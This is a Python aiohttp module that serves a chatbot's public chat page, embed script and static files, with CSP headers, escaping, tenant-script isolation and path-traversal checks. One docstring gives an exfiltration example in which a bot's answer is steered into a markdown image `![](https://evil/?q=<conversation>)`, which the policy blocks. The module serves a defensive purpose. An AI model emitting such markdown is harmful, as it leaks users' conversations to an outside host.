"""The chat page (GET /chat/{accessKey}), the embed script and the static files they use."""

from __future__ import annotations

import hashlib
import html
import logging
import re
from importlib import resources
from pathlib import Path
from urllib.parse import urlsplit

import orjson
from aiohttp import web

from botline.api.http import ApiError
from botline.api.openapi import Access, Answer, documented
from botline.api.state import services
from botline.domain.chat_clients import ChatClient

log = logging.getLogger(__name__)
routes = web.RouteTableDef()

WEB_ROOT = Path(str(resources.files("botline") / "web"))
STATIC_ROOT = WEB_ROOT / "static"
PAGE_TEMPLATE = (WEB_ROOT / "chat.html").read_text(encoding="utf-8")
EMBED_SCRIPT = (WEB_ROOT / "embed.js").read_bytes()
ASSET_VERSION = hashlib.sha256(b"".join(
    path.read_bytes() for path in sorted(STATIC_ROOT.rglob("*")) if path.is_file()
)).hexdigest()[:12]
"""Changes whenever a static file changes, so a browser never mixes an old chat.js with a new page."""
_HOST = re.compile(r"^(?:\[[0-9a-fA-F:.]+\]|[a-zA-Z0-9.-]+)(?::\d{1,5})?$")
"""A URL's host[:port] that can stand in a CSP source list as it is (no spaces, quotes or semicolons)."""
EXPIRED_PAGE = (
    "<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>Chat unavailable</title>"
    "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\"></head>"
    "<body style=\"font-family:system-ui,sans-serif;display:grid;place-items:center;height:100vh;margin:0\">"
    "<p>This chat link has expired or does not exist.</p></body></html>"
)
UNAVAILABLE_PAGE = EXPIRED_PAGE.replace("has expired or does not exist", "is unavailable right now")
"""A disabled account's chat: the link may work again later, and the visitor learns nothing more."""


def frame_ancestors(client: ChatClient) -> str:
    """CSP frame-ancestors from allowedFrameOrigins; an empty list lets any site embed the chat."""
    origins = client.client_parameters.allowed_frame_origins
    return "frame-ancestors " + (" ".join(["'self'", *origins]) if origins else "*")


def _logo_origin(client: ChatClient) -> list[str]:
    """The origin of an http(s) logoImageUrl, the one remote image the page may load."""
    url = client.client_parameters.logo_image_url or ""
    if not url.startswith(("https://", "http://")):
        return []
    parts = urlsplit(url)
    return [f"{parts.scheme}://{parts.netloc}"] if _HOST.match(parts.netloc) else []


def content_security_policy(client: ChatClient) -> str:
    """The page talks only to its own origin (API, SSE, static files) and shows images from itself,
    data: URLs and the logo's origin: markdown that points an image or a media element at another host
    (an answer steered into `![](https://evil/?q=<conversation>)`) causes no request."""
    return "; ".join([
        frame_ancestors(client), "object-src 'none'", "base-uri 'none'",
        " ".join(["img-src 'self' data:", *_logo_origin(client)]), "media-src 'self' data:", "connect-src 'self'",
    ])


def served_at_chat_origin(request: web.Request, chat_origin: str | None) -> bool:
    """Whether this request reached botline under webchat.chat_origin's host (the Host header, which the
    reverse proxy passes on: deploy/nginx). The scheme is not compared: TLS usually ends at the proxy."""
    return bool(chat_origin) and request.host.lower() == urlsplit(chat_origin).netloc.lower()


def _script_safe(text: str) -> str:
    """Text that cannot close the <script>/<style> element it is placed in."""
    return text.replace("</", "<\\/")


def render_page(client: ChatClient, access_key: str, *, poll_seconds: float, run_scripts: bool) -> str:
    """`run_scripts` False leaves customScripts out: the page is not on a chat origin of its own."""
    params = client.client_parameters
    config = {"accessKey": access_key, "apiBase": f"/api/v1/public/chat-clients/{access_key}",
              "pollSeconds": poll_seconds}
    return (
        PAGE_TEMPLATE
        .replace("{{version}}", ASSET_VERSION)
        .replace("{{title}}", html.escape(params.page_title))
        .replace("{{primary_color}}", html.escape(params.primary_color))
        .replace("{{config_json}}", _script_safe(orjson.dumps(config).decode()))
        .replace("{{custom_styles}}", _script_safe(params.custom_styles or ""))
        .replace("{{custom_scripts}}", _script_safe((params.custom_scripts if run_scripts else None) or ""))
    )


@routes.get("/chat/{access_key}")
@documented(
    "The chat page.", access=Access.ACCESS_KEY, media_type="text/html",
    answers={404: Answer("An expired or unknown session: an HTML page says so.", media_type="text/html"),
             403: Answer("The chat is unavailable (its account is disabled): an HTML page says so.",
                         media_type="text/html")},
)
async def chat_page(request: web.Request) -> web.Response:
    svc = services(request)
    access_key = request.match_info["access_key"]
    session = await svc.sessions.live_by_access_key(access_key)
    if session is not None and await svc.accounts.active(session.account_id) is None:
        return web.Response(status=403, text=UNAVAILABLE_PAGE, content_type="text/html",
                            headers={"Cache-Control": "no-store"})
    client = None if session is None else await svc.store.chat_clients.get(session.account_id, session.chat_client_id)
    if client is None:
        return web.Response(status=404, text=EXPIRED_PAGE, content_type="text/html")
    run_scripts = served_at_chat_origin(request, svc.settings.webchat.chat_origin)
    if client.client_parameters.custom_scripts and not run_scripts:
        # Saved before webchat.chat_origin was required, or this is the API's host: on the management
        # API's origin the tenant's script would share it with whatever else is served there.
        log.warning("chat client %s: customScripts left out, the page is not served on webchat.chat_origin",
                    client.id)
    page = render_page(client, access_key, poll_seconds=svc.settings.webchat.poll_seconds, run_scripts=run_scripts)
    return web.Response(
        text=page,
        content_type="text/html",
        headers={
            "Content-Security-Policy": content_security_policy(client),
            "Cache-Control": "no-store",
            "Referrer-Policy": "no-referrer",
            "X-Content-Type-Options": "nosniff",
        },
    )


@routes.get("/embed.js")
@documented(
    "The script that embeds the chat launcher in another site.", access=Access.PUBLIC,
    media_type="application/javascript",
)
async def embed_script(request: web.Request) -> web.Response:
    return web.Response(
        body=EMBED_SCRIPT, content_type="application/javascript",
        headers={"Cache-Control": "public, max-age=300", "Access-Control-Allow-Origin": "*"},
    )


@routes.get("/static/{file:.+}")
@documented("A static file of the chat page (CSS, scripts, vendored libraries).", access=Access.PUBLIC,
            media_type=None)
async def static_file(request: web.Request) -> web.FileResponse:
    """Served by our own handler: aiohttp's static route answers 500 to a file name the OS refuses
    (too long, for instance)."""
    try:
        path = (STATIC_ROOT / request.match_info["file"]).resolve()
        found = path.is_relative_to(STATIC_ROOT.resolve()) and path.is_file()
    except (OSError, ValueError):
        found = False
    if not found:
        raise ApiError(404, "Not found.")
    return web.FileResponse(path)
